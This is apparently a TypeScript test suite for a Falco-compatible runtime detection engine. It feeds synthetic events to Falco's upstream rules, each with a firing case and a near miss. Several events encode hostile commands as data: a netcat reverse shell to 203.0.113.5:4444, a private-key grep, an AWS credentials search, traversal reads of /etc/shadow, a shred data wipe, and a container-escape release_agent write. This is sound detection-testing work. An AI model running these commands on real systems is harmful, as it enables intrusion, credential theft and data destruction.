/**
 * Falco's upstream rules, unchanged: stable and incubating load with zero errors and every rule compiles; then, for
 * each stable rule, an event it must fire on and a near miss (one detail changed) it must not fire on.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { FdType, L4Proto, ProcFlag, type Alert } from '@peregrine/event';
import { checkRules, formatDiagnostic, loadRulesText, parseRulesConfig, Severity, type Ruleset } from '../../src/index.ts';
import { BatchBuilder, BASE_TS, O, flag } from '../ruleset/batch-builder.ts';
import { hostResolver, systemLookup } from '../../src/filter/host-names.ts';
import { UPSTREAM_STABLE_RULES, UPSTREAM_INCUBATING_RULES } from '../../../../tests/support/shared.ts';

const stable = { name: 'falco_rules.yaml', content: readFileSync(UPSTREAM_STABLE_RULES, 'utf8') };
const incubating = { name: 'falco-incubating_rules.yaml', content: readFileSync(UPSTREAM_INCUBATING_RULES, 'utf8') };

describe('upstream rules load', () => {
  it('stable then incubating: zero errors, 25 + 31 rules compile', () => {
    const s = checkRules([stable]);
    assert.deepEqual(s.diagnostics.filter((d) => d.severity === Severity.Error).map(formatDiagnostic), []);
    assert.equal(s.ruleset!.rules.length, 25);
    const both = checkRules([stable, incubating]);
    assert.deepEqual(both.diagnostics.filter((d) => d.severity === Severity.Error).map(formatDiagnostic), []);
    assert.equal(both.ruleset!.rules.length, 56);
    assert.equal(both.ruleset!.rules.filter((r) => r.name !== undefined && incubating.content.includes(`- rule: ${r.name}\n`)).length, 31);
  });

  it('the stable rules, enabled by default, all have an event-type gate', () => {
    const rules = loadRulesText([stable]);
    const gates = rules.eventTypes();
    assert.ok(gates, 'every stable rule is gated');
    for (const t of ['execve', 'openat', 'connect', 'ptrace', 'symlinkat', 'linkat', 'init_module', 'dup2', 'socket']) {
      assert.ok(gates.includes(t), t);
    }
  });
});

const SECOND = 1_000_000_000n;
const CAP = { DAC_OVERRIDE: 1n << 1n, SYS_MODULE: 1n << 16n, SYS_ADMIN: 1n << 21n } as const;
const PTRACE = {
  TRACEME: flag('ptrace_requests', 'PTRACE_TRACEME'),
  PEEKDATA: flag('ptrace_requests', 'PTRACE_PEEKDATA'),
  ATTACH: flag('ptrace_requests', 'PTRACE_ATTACH'),
} as const;
const AF = { INET: flag('socket_families', 'AF_INET'), PACKET: flag('socket_families', 'AF_PACKET') } as const;

type Build = (b: BatchBuilder) => void;
interface Case {
  rule: string;
  fire: Build;
  miss: Build;
}

const exec = (b: BatchBuilder, proc: number) => b.event('execve', { proc, args: {} });

function openFile(b: BatchBuilder, proc: number, path: string, flags: number, raw = path) {
  const fd = b.fd({ num: 3, type: FdType.File, name: path, openFlags: flags });
  b.event('openat', { proc, fd, res: 3, args: { fd: 3, name: raw, flags } });
}

function pod(b: BatchBuilder, privileged = false) {
  return b.container({ privileged });
}

const CASES: Case[] = [
  {
    rule: 'Directory traversal monitored file read',
    fire: (b) => openFile(b, b.proc({ name: 'php-fpm' }, [{ name: 'php-fpm' }]), '/etc/shadow', O.RDONLY, '/var/www/html/../../../etc/shadow'),
    miss: (b) => openFile(b, b.proc({ name: 'php-fpm' }, [{ name: 'bash' }]), '/etc/shadow', O.RDONLY, '/var/www/html/../../../etc/shadow'),
  },
  {
    rule: 'Read sensitive file trusted after startup',
    fire: (b) => openFile(b, b.proc({ name: 'nginx', startTs: BASE_TS - 60n * SECOND }), '/etc/shadow', O.RDONLY),
    miss: (b) => openFile(b, b.proc({ name: 'nginx', startTs: BASE_TS - 1n * SECOND }), '/etc/shadow', O.RDONLY),
  },
  {
    rule: 'Read sensitive file untrusted',
    fire: (b) => openFile(b, b.proc({ name: 'evil' }), '/etc/sudoers', O.RDONLY),
    miss: (b) => openFile(b, b.proc({ name: 'sudo' }), '/etc/sudoers', O.RDONLY),
  },
  {
    rule: 'Run shell untrusted',
    fire: (b) => exec(b, b.proc({ name: 'bash', args: ['-c', 'id'] }, [{ name: 'nginx' }])),
    miss: (b) => exec(b, b.proc({ name: 'python3', args: ['-c', 'id'] }, [{ name: 'nginx' }])),
  },
  {
    rule: 'System user interactive',
    fire: (b) => exec(b, b.proc({ name: 'ls', user: 'www-data', uid: 33 }, [{ name: 'bash' }, { name: 'sshd' }])),
    miss: (b) => exec(b, b.proc({ name: 'ls', user: 'alice', uid: 1000 }, [{ name: 'bash' }, { name: 'sshd' }])),
  },
  {
    rule: 'Terminal shell in container',
    fire: (b) => exec(b, b.proc({ name: 'bash', tty: 34816 }, [{ name: 'containerd-shim' }], pod(b))),
    miss: (b) => exec(b, b.proc({ name: 'bash', tty: 0 }, [{ name: 'containerd-shim' }], pod(b))),
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    fire: (b) => exec(b, b.proc({ name: 'nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] }, [{ name: 'sh' }], pod(b))),
    miss: (b) => exec(b, b.proc({ name: 'nc', args: ['203.0.113.5', '80'] }, [{ name: 'sh' }], pod(b))),
  },
  {
    rule: 'Search Private Keys or Passwords',
    fire: (b) => exec(b, b.proc({ name: 'grep', args: ['-r', 'BEGIN RSA PRIVATE', '/home'] })),
    miss: (b) => exec(b, b.proc({ name: 'grep', args: ['-r', 'BEGIN CERTIFICATE', '/home'] })),
  },
  {
    rule: 'Clear Log Activities',
    fire: (b) => openFile(b, b.proc({ name: 'bash' }), '/var/log/syslog', O.WRONLY | O.TRUNC),
    miss: (b) => openFile(b, b.proc({ name: 'bash' }), '/var/log/syslog', O.WRONLY),
  },
  {
    rule: 'Remove Bulk Data from Disk',
    fire: (b) => exec(b, b.proc({ name: 'shred', args: ['-u', '/data/db'] })),
    miss: (b) => exec(b, b.proc({ name: 'rm', args: ['-rf', '/data/db'] })),
  },
  {
    rule: 'Create Symlink Over Sensitive Files',
    fire: (b) => b.event('symlinkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, target: '/etc/shadow', linkpath: '/tmp/s' } }),
    miss: (b) => b.event('symlinkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, target: '/etc/hosts', linkpath: '/tmp/s' } }),
  },
  {
    rule: 'Create Hardlink Over Sensitive Files',
    fire: (b) => b.event('linkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, oldpath: '/etc/shadow', newpath: '/tmp/s' } }),
    miss: (b) => b.event('linkat', { proc: b.proc({ name: 'ln' }), args: { res: 0, oldpath: '/etc/hostname', newpath: '/tmp/s' } }),
  },
  {
    rule: 'Packet socket created in container',
    fire: (b) => b.event('socket', { proc: b.proc({ name: 'tcpdump' }, [], pod(b)), dir: 0, args: { domain: AF.PACKET, type: 3, proto: 0 } }),
    miss: (b) => b.event('socket', { proc: b.proc({ name: 'tcpdump' }, [], pod(b)), dir: 0, args: { domain: AF.INET, type: 1, proto: 0 } }),
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    fire: (b) => {
      const fd = b.fd({ num: 1, type: FdType.Ipv4, name: '10.1.2.3:40000->203.0.113.5:4444', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '203.0.113.5', dport: 4444 });
      b.event('dup2', { proc: b.proc({ name: 'bash' }, [], pod(b)), fd, res: 1, args: { res: 1, oldfd: 3, newfd: 1 } });
    },
    miss: (b) => {
      const fd = b.fd({ num: 7, type: FdType.Ipv4, name: '10.1.2.3:40000->203.0.113.5:4444', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '203.0.113.5', dport: 4444 });
      b.event('dup2', { proc: b.proc({ name: 'bash' }, [], pod(b)), fd, res: 7, args: { res: 7, oldfd: 3, newfd: 7 } });
    },
  },
  {
    rule: 'Linux Kernel Module Injection Detected',
    fire: (b) => b.event('init_module', { proc: b.proc({ name: 'insmod', capEffective: CAP.SYS_MODULE }, [], pod(b)), args: { res: 0 } }),
    miss: (b) => b.event('init_module', { proc: b.proc({ name: 'insmod', capEffective: 0n }, [], pod(b)), args: { res: 0 } }),
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    fire: (b) => exec(b, b.proc({ name: 'debugfs' }, [], pod(b, true))),
    miss: (b) => exec(b, b.proc({ name: 'debugfs' }, [], pod(b, false))),
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    fire: (b) => openFile(b, b.proc({ name: 'sh', uid: 0, capEffective: CAP.SYS_ADMIN }, [], pod(b)), '/tmp/cg/release_agent', O.WRONLY),
    miss: (b) => openFile(b, b.proc({ name: 'sh', uid: 0, capEffective: CAP.DAC_OVERRIDE }, [], pod(b)), '/tmp/cg/release_agent', O.WRONLY),
  },
  {
    rule: 'PTRACE attached to process',
    fire: (b) => b.event('ptrace', { proc: b.proc({ name: 'injector' }), dir: 0, args: { request: PTRACE.ATTACH, pid: 4242 } }),
    miss: (b) => b.event('ptrace', { proc: b.proc({ name: 'injector' }), dir: 0, args: { request: PTRACE.PEEKDATA, pid: 4242 } }),
  },
  {
    rule: 'PTRACE anti-debug attempt',
    fire: (b) => b.event('ptrace', { proc: b.proc({ name: 'malware' }), dir: 0, args: { request: PTRACE.TRACEME, pid: 0 } }),
    miss: (b) => b.event('ptrace', { proc: b.proc({ name: 'malware' }), dir: 0, args: { request: PTRACE.PEEKDATA, pid: 0 } }),
  },
  {
    rule: 'Find AWS Credentials',
    fire: (b) => exec(b, b.proc({ name: 'find', args: ['/', '-path', '*/.aws/credentials'] })),
    miss: (b) => exec(b, b.proc({ name: 'find', args: ['/', '-path', '*/.aws/config'] })),
  },
  {
    rule: 'Execution from /dev/shm',
    fire: (b) => exec(b, b.proc({ name: 'x', exe: '/dev/shm/x', exepath: '/dev/shm/x' })),
    miss: (b) => exec(b, b.proc({ name: 'x', exe: '/tmp/x', exepath: '/tmp/x' })),
  },
  {
    rule: 'Drop and execute new binary in container',
    fire: (b) => exec(b, b.proc({ name: 'miner', flags: ProcFlag.ExeUpperLayer }, [{ name: 'sh' }], pod(b))),
    miss: (b) => exec(b, b.proc({ name: 'miner', flags: ProcFlag.ExeLowerLayer }, [{ name: 'sh' }], pod(b))),
  },
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    fire: (b) => sshConnect(b, 443),
    miss: (b) => sshConnect(b, 22),
  },
  {
    rule: 'Fileless execution via memfd_create',
    fire: (b) => exec(b, b.proc({ name: 'payload', flags: ProcFlag.ExeFromMemfd }, [{ name: 'bash' }])),
    miss: (b) => exec(b, b.proc({ name: 'runc', flags: ProcFlag.ExeFromMemfd }, [{ name: 'containerd-shim' }])),
  },
];

function sshConnect(b: BatchBuilder, port: number) {
  const proc = b.proc({ name: 'ssh', exe: '/usr/bin/ssh', exepath: '/usr/bin/ssh' });
  const fd = b.fd({
    num: 3, type: FdType.Ipv4, name: `192.168.1.5:50000->203.0.113.5:${port}`, l4proto: L4Proto.Tcp,
    sip: '192.168.1.5', sport: 50000, dip: '203.0.113.5', dport: port,
  });
  b.event('connect', { proc, fd, res: 0, args: { res: 0, fd: 3 } });
}

/**
 * Rules whose fire case needs what our fields do not provide yet, with the reason. Each still has its near miss
 * checked, and stays listed here only while its fire case fails.
 */
const KNOWN_GAPS: Record<string, string> = {};

/** Rules whose check depends on a host name resolving (k8s_api_server): tested with an injected lookup below. */
const K8S_API_RULE = 'Contact K8S API Server From Container';

describe('upstream stable rules: fire and near miss', () => {
  const rules: Ruleset = loadRulesText([stable], parseRulesConfig({ rule_matching: 'all' }));
  const fired = (build: Build): string[] => {
    const b = new BatchBuilder();
    build(b);
    const alerts: Alert[] = [];
    rules.evaluate(b.batch, (a) => alerts.push(a));
    return alerts.map((a) => a.rule);
  };

  it('covers every stable rule', () => {
    const covered = new Set([...CASES.map((c) => c.rule), ...Object.keys(KNOWN_GAPS), K8S_API_RULE]);
    assert.deepEqual(rules.rules.map((r) => r.name).filter((n) => !covered.has(n)), []);
  });

  for (const c of CASES) {
    it(`${c.rule}: fires`, () => assert.ok(fired(c.fire).includes(c.rule), `fired: ${JSON.stringify(fired(c.fire))}`));
    it(`${c.rule}: near miss does not fire`, () => assert.ok(!fired(c.miss).includes(c.rule)));
  }

  for (const [rule, reason] of Object.entries(KNOWN_GAPS)) it(`${rule}: fires`, { todo: reason }, () => assert.fail(reason));

  // libsinsp resolves kubernetes.default.svc.cluster.local forward and compares fd.sip with its addresses; here the
  // process-wide resolver gets a lookup that knows the name (no cluster DNS in tests)
  it(`${K8S_API_RULE}: fires once the API server name resolves, near misses do not`, async () => {
    const apiServer = (dip: string) => (b: BatchBuilder) => {
      const fd = b.fd({ num: 3, type: FdType.Ipv4, name: `10.1.2.3:40000->${dip}:443`, l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip, dport: 443 });
      b.event('connect', { proc: b.proc({ name: 'curl' }, [], pod(b)), fd, res: 0, args: { res: 0, fd: 3 } });
    };
    const onHost = (b: BatchBuilder) => {
      const fd = b.fd({ num: 3, type: FdType.Ipv4, name: '10.1.2.3:40000->10.96.0.1:443', l4proto: L4Proto.Tcp, sip: '10.1.2.3', sport: 40000, dip: '10.96.0.1', dport: 443 });
      b.event('connect', { proc: b.proc({ name: 'curl' }), fd, res: 0, args: { res: 0, fd: 3 } });
    };
    assert.ok(!fired(apiServer('10.96.0.1')).includes(K8S_API_RULE), 'unresolved name matches nothing');
    await hostResolver.useLookup(async (name) => (name === 'kubernetes.default.svc.cluster.local' ? ['10.96.0.1'] : []));
    try {
      assert.ok(fired(apiServer('10.96.0.1')).includes(K8S_API_RULE), `fired: ${JSON.stringify(fired(apiServer('10.96.0.1')))}`);
      assert.ok(!fired(apiServer('10.96.0.7')).includes(K8S_API_RULE), 'another address');
      assert.ok(!fired(onHost).includes(K8S_API_RULE), 'not in a container');
    } finally {
      await hostResolver.useLookup(systemLookup);
    }
  });
});

describe('upstream rules with a local overrides file, as Falco users write one', () => {
  const local = {
    name: 'falco_rules.local.yaml',
    content: `
- macro: user_expected_terminal_shell_in_container_conditions
  condition: (k8s.ns.name = dev)
  override:
    condition: replace

- list: known_drop_and_execute_containers
  items: [registry.example.com/tools/debug]
  override:
    items: append

- rule: Remove Bulk Data from Disk
  enabled: false
  override:
    enabled: replace

- rule: Netcat Remote Code Execution in Container
  exceptions:
    - name: allowed_scanner
      fields: [k8s.ns.name, proc.pname]
      values: [[security, scanner]]
  override:
    exceptions: append

- rule: Debugfs Launched in Privileged Container
  priority: critical
  output: debugfs in privileged container (pod=%k8s.pod.name cmdline=%proc.cmdline)
  override:
    priority: replace
    output: replace
`,
  };
  const rules = loadRulesText([stable, incubating, local], parseRulesConfig({ rule_matching: 'all' }));
  const run = (build: Build) => {
    const b = new BatchBuilder();
    build(b);
    const alerts: Alert[] = [];
    rules.evaluate(b.batch, (a) => alerts.push(a));
    return alerts;
  };

  it('loads with no errors and the same 56 rules', () => {
    assert.equal(rules.rules.length, 56);
    assert.deepEqual(rules.diagnostics.filter((d) => d.severity === Severity.Error), []);
  });

  it('a replaced tuning macro silences the rule for that namespace only', () => {
    const shell = (ns: string) => (b: BatchBuilder) => exec(b, b.proc({ name: 'bash', tty: 34816 }, [{ name: 'runc' }], b.container({}, { nsName: ns })));
    assert.ok(!run(shell('dev')).some((a) => a.rule === 'Terminal shell in container'));
    assert.ok(run(shell('prod')).some((a) => a.rule === 'Terminal shell in container'));
  });

  it('an appended list item excludes that image', () => {
    const drop = (repo: string) => (b: BatchBuilder) => exec(b, b.proc({ name: 'x', flags: ProcFlag.ExeUpperLayer }, [{ name: 'sh' }], b.container({ imageRepository: repo })));
    assert.ok(!run(drop('registry.example.com/tools/debug')).some((a) => a.rule === 'Drop and execute new binary in container'));
    assert.ok(run(drop('registry.example.com/shop/web')).some((a) => a.rule === 'Drop and execute new binary in container'));
  });

  it('a disabled rule no longer fires', () => {
    assert.ok(!run((b) => exec(b, b.proc({ name: 'shred' }))).some((a) => a.rule === 'Remove Bulk Data from Disk'));
  });

  it('an appended exception excepts its tuple only', () => {
    const nc = (ns: string, parent: string) => (b: BatchBuilder) =>
      exec(b, b.proc({ name: 'nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] }, [{ name: parent }], b.container({}, { nsName: ns })));
    assert.ok(!run(nc('security', 'scanner')).some((a) => a.rule === 'Netcat Remote Code Execution in Container'));
    assert.ok(run(nc('security', 'bash')).some((a) => a.rule === 'Netcat Remote Code Execution in Container'));
  });

  it('replaced priority and output show in the alert', () => {
    const [alert] = run((b) => exec(b, b.proc({ name: 'debugfs', args: ['/dev/sda1'] }, [], b.container({ privileged: true }, { podName: 'p-1' }))))
      .filter((a) => a.rule === 'Debugfs Launched in Privileged Container');
    assert.equal(alert!.priority, 'Critical');
    assert.match(alert!.output, /: Critical debugfs in privileged container \(pod=p-1 cmdline=debugfs \/dev\/sda1\)$/);
  });
});
